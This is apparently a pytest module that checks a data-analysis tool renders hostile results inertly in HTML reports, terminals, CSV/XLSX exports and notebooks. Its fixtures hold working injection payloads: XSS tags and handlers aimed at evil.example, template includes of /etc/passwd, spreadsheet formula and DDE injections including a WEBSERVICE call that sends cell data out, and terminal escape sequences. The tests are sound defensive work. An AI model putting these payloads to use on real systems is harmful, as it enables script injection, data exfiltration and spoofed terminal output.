"""Hostile results on every surface that people look at: nothing in them is fetched, followed, computed or obeyed.

One step is written as a sandbox would send it, past the cell that would have refused much of it: what the executor
keeps is what surfaces have to bear.  tests/system opens the same kind of results in a real browser.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow as pa
import pytest

from daytwo.cli import answer, terminal
from daytwo.cli.notebook import document
from daytwo.executor.cell.writing import csvfile, xlsxfile
from daytwo.executor.database import Database
from daytwo.executor.results import ResultStore
from daytwo.executor.results.report import page_of, receipt_page
from daytwo.wire.canonical import canonical_bytes
from daytwo.wire.identifiers import new_id
from daytwo.wire.observation import Alphabet, Observation, Outcome
from daytwo.wire.principal import LOCAL_OWNER
from daytwo.wire.question import StandIn
from daytwo.wire.result import AskedQuestion, HeldBack, Outbound, Receipt, RunResult
from daytwo.wire.run import NewRun, RunStatus, RunView, StepView
from daytwo.wire.sheet import ColumnSheet, ColumnType, Level, SchemaSheet, SignedSheet, TableSheet
from daytwo.wire.signing import SigningKey

HOST = "evil.example"
ESCAPES = "\x1b]8;;http://evil.example/\x07x\x1b]8;;\x07\x1b[2J\x9b31m\u202egnp.exe\u2066\x00\x08\r"
HOSTILE = (
    '<img src="http://evil.example/i"><script src="//evil.example/s">fetch("//evil.example")</script>',
    "</title></style></textarea></pre></table></script><iframe src=//evil.example></iframe>",
    '"><svg onload=alert(1)><use href="http://evil.example/#x"/></svg><a href="javascript:alert(1)">x</a>',
    "![x](http://evil.example/m.png) [x](http://evil.example) <http://evil.example>",
    "'onmouseover='alert(1)' style='background:url(//evil.example/c)",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}<!--#include virtual='/' -->]]>--><!--",
    '=WEBSERVICE("http://evil.example/"&A1)',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'/c x'!A1",
    '-2+3+HYPERLINK("http://evil.example")',
    "\t=1+1",
    '＝HYPERLINK("http://evil.example")',
    ESCAPES,
    "x" * 10_000 + "<script>",
)
RUN, SESSION, AT = new_id("run"), new_id("session"), "2026-01-02T03:04:05.678Z"
KEY = SigningKey.generate()
ACTIVE_TAGS = {"script", "iframe", "object", "embed", "form", "svg", "link", "base", "frame", "video", "audio", "use"}
LEADING = {"href", "src", "srcset", "action", "formaction", "data", "poster", "background", "xlink:href", "ping"}


class Markup(HTMLParser):
    """What of a page is not text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def arrow(columns: dict[str, Any]) -> bytes:
    table = pa.table(columns)
    sink = pa.BufferOutputStream()
    with pa.ipc.new_file(sink, table.schema) as writer:
        writer.write_table(table)
    return sink.getvalue().to_pybytes()


def header_of_table() -> dict[str, Any]:
    columns = [{"name": text, "type": "string"} for text in HOSTILE]
    return {"kind": "table", "title": HOSTILE[0], "columns": columns, "row_count": 2, "rows": [list(HOSTILE)] * 2}


def figure() -> dict[str, Any]:
    """A figure with an address in every place that plotly.js would follow, in a key of any writing."""
    url = f"http://{HOST}/p"
    return {
        "data": [
            {"type": "bar", "x": HOSTILE, "y": [1], "text": HOSTILE, "hovertemplate": HOSTILE[0], "customdata": [url]},
            {"type": "table", "header": {"values": HOSTILE}, "cells": {"values": [HOSTILE]}},
        ],
        "layout": {
            "images": [{"source": url}],
            "mapbox": {"style": url, "accesstoken": "t"},
            "geo": {"topojsonURL": url},
            "annotations": [{"text": f'<a href="{url}">x</a>'}],
            "title": {"text": HOSTILE[2]},
            "updatemenus": [{"buttons": [{"args": [{"images[0].source": url}]}]}],
        },
        "config": {"plotlyServerURL": url},
    }


@pytest.fixture
def shown(tmp_path: Path) -> Iterator[tuple[RunResult, ResultStore]]:
    database = Database(tmp_path / "executor.sqlite")
    store = ResultStore(tmp_path / "results", database, "local")
    writer = store.begin(RUN, SESSION, 1, 1)
    for text in HOSTILE:
        writer.begin({"kind": "say", "text": text}, 0)
    for header, payload in (
        (header_of_table(), arrow({f"{n} {text}": [text] for n, text in enumerate(HOSTILE)})),
        (
            {"kind": "chart", "title": HOSTILE[1], "media_type": "application/vnd.plotly.v1+json"},
            json.dumps(figure()).encode(),
        ),
        ({"kind": "chart", "title": None, "media_type": "image/svg+xml"}, b"<svg onload='x'/>"),
        ({"kind": "chart", "title": None, "media_type": "image/png"}, b"<svg onload='x'/>" + b" " * 40),
        ({"kind": "html", "text": HOSTILE[0]}, b""),
    ):
        writer.begin(header, len(payload))
        writer.chunk(payload)
        writer.end()
    writer.begin({"kind": "traceback", "text": "\n".join(HOSTILE)}, 0)
    writer.finish("ok", stdout="\n".join(HOSTILE).encode(), unsaved=HOSTILE)
    yield store.read(RUN), store
    database.close()


def view() -> RunView:
    text = "\n".join(HOSTILE[:6])
    ended = Observation(alphabet=Alphabet.VERDICT, outcome=Outcome.OK)
    steps = (StepView(step=1, intent=text, program=text, final=True, observation=ended),)
    return RunView(
        run=RUN, session=SESSION, status=RunStatus.FAILED, reason="x", message=text, question=text, model=HOSTILE[0],
        profile="small", created_at=AT, updated_at=AT, steps=steps,
    )  # fmt: skip


def receipt() -> Receipt:
    """With a sheet of hostile names, as one of another executor might hold: ours replaces such names by handles."""
    columns = tuple(
        ColumnSheet(name=text[:256], type=ColumnType.TEXT, labels=HOSTILE, masks=HOSTILE[:4]) for text in HOSTILE
    )
    tables = (TableSheet(name="t", columns=columns),)
    sheet = SchemaSheet(org_id="local", dataset="d", version=1, level=Level.LABELS, format="csv", tables=tables)
    signed = SignedSheet.sign(sheet, KEY, LOCAL_OWNER, AT)
    run = NewRun(question=HOSTILE[0])
    return Receipt(
        run=RUN, session=SESSION, bits=4, bits_spent=4, budget_bits=512, bytes_out=1, ledger_size=1, ledger_root="00",
        question=AskedQuestion(
            held=HOSTILE[:3],
            consented=True,
            stand_ins=tuple(StandIn(token="0123456789", text=text, source=text) for text in HOSTILE),
        ),
        held_back=(HeldBack(kind="table", count=1, rows=2),),
        outbound=(
            Outbound(channel="question", at=AT, body=canonical_bytes(run).decode()),
            Outbound(channel="sheet", at=AT, body=canonical_bytes(signed).decode()),
        ),
    )  # fmt: skip


@pytest.mark.parametrize("kind", ["report", "receipt"])
def test_pages_hold_text_and_pictures_and_lead_nowhere(shown: tuple[RunResult, ResultStore], kind: str) -> None:
    result, store = shown

    def artefact(step: int, file: str) -> Path:
        return store.artefact(RUN, step, file)

    page = (
        page_of(view(), result, receipt(), artefact)
        if kind == "report"
        else receipt_page(view(), result, receipt(), artefact)
    )
    assert f"http://{HOST}" in page.html  # as text: what was shown is there
    markup = Markup(page.html)
    scripts = {"report": 3, "receipt": 0}[kind]  # plotly.js, our own, and the figure as a data block
    assert markup.tags.count("script") == scripts
    assert ACTIVE_TAGS.intersection(markup.tags) <= {"script"}
    assert [
        value for name, value in markup.attributes if name in LEADING and not value.startswith(("#", "data:image/png;"))
    ] == []
    assert [name for name, _ in markup.attributes if name.startswith("on") or name == "style"] == []
    assert page.policy.startswith("default-src 'none'")
    assert HOST not in page.policy
    assert "'unsafe-inline'" not in page.policy.replace("style-src-attr 'unsafe-inline'", "")


def test_the_figure_that_is_kept_names_no_address_that_would_be_followed(shown: tuple[RunResult, ResultStore]) -> None:
    result, store = shown
    assert [chart.media_type for chart in result.steps[0].charts] == ["application/vnd.plotly.v1+json"]
    kept = json.loads(store.artefact(RUN, 1, "c1.plotly.json").read_bytes())
    text = json.dumps(kept)
    for word in ("images", "mapbox", "topojson", "updatemenus", "plotlyServerURL", "<a ", "<img", "<script", "<svg"):
        assert word not in text


def test_a_terminal_is_told_nothing_that_it_would_obey(
    shown: tuple[RunResult, ResultStore], capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    result, _ = shown
    answer.show(answer.Answer(view=view(), steps=result.steps, receipt=receipt(), folder=tmp_path, files={}))
    printed = "".join(capsys.readouterr())
    assert "http://evil.example" in printed
    assert terminal.printable(printed) == printed


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_a_spreadsheet_computes_nothing(form: str) -> None:
    table = pa.table({text[:40]: [text] for text in HOSTILE})
    made = io.BytesIO()
    write = {"csv": csvfile.write, "xlsx": xlsxfile.write}[form]
    write(table.schema, table.to_batches, made, HOSTILE[0])
    if form == "xlsx":
        cells = [cell for row in openpyxl.load_workbook(made).active.iter_rows() for cell in row]
        assert {cell.data_type for cell in cells} <= {"s", "inlineStr", "n"}
        assert not [cell for cell in cells if cell.hyperlink]
        return
    rows = list(csv.reader(io.StringIO(made.getvalue().decode("utf-8-sig"), newline="")))
    assert len(rows) == 2
    assert not [cell for row in rows for cell in row if cell[:1] in tuple("=+-@\t\r\n＝＋－＠")]


def test_a_notebook_shows_text(shown: tuple[RunResult, ResultStore]) -> None:
    result, store = shown
    told = document.Told(view(), result.steps)
    made = document.notebook(SESSION, [], [told], store.artefact)
    for cell in made["cells"]:
        if cell["cell_type"] == "markdown":
            assert "<" not in cell["source"].replace("\\<", "")
            assert "](" not in cell["source"].replace("\\]", "")
        for output in cell.get("outputs", ()):
            html = "".join(output.get("data", {}).get("text/html", ""))
            assert set(Markup(html).tags) <= {"table", "caption", "thead", "tbody", "tr", "th", "td", "p"}
            assert Markup(html).attributes == []
